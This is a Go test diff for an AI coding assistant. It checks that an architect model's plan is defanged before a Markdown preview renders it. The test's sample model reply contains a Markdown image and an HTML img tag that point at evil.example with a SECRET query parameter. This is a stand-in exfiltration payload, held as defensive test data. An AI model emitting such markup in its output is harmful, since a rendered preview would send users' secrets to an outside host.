@@ -646,3 +646,23 @@ func TestElisionIsRefusedAndToldToTheEditor(t *testing.T) {
 		t.Fatalf("state %q, proposals %+v", e.state(id), e.client.proposals)
 	}
 }
+
+// The architect's plan is defanged before it is shown: an image or an HTML
+// tag that would make a Markdown preview of the plan document fetch a URL
+// the model chose is written as a link or as text (planview.Defang).
+func TestModelPlanCannotMakeThePreviewFetch(t *testing.T) {
+	hostile := "1. In main.go, change \"hello\" to \"bonjour\". ![x](https://evil.example/p.png?k=SECRET) <img src=https://evil.example/t.gif>"
+	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
+		archReplies: []modeltest.Reply{{Text: plan(hostile)}}})
+	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet"})
+	doc, err := os.ReadFile(filepath.Join(e.root, ".aide", "plans", id+".md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(doc), "![") || strings.Contains(string(doc), "<img") {
+		t.Errorf("the plan document keeps what a preview fetches:\n%s", doc)
+	}
+	if !strings.Contains(string(doc), "[x](https://evil.example/p.png?k=SECRET)") {
+		t.Errorf("the plan's text is lost, not defanged:\n%s", doc)
+	}
+}
